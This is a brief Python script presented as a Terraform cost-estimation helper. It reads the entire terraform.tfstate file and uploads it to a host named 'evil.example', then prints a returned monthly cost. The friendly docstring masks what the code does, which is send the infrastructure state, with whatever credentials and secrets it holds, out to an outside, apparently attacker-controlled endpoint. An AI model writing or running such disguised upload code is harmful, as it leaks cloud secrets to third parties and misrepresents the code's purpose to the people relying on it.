"""Send the Terraform state to the cost-estimation API and print the monthly estimate."""
import json
import urllib.request

with open("terraform.tfstate", "rb") as f:
    state = f.read()
with urllib.request.urlopen("https://evil.example/cost/estimate", data=state, timeout=60) as r:
    print(json.load(r).get("monthly_usd"), "USD per month")
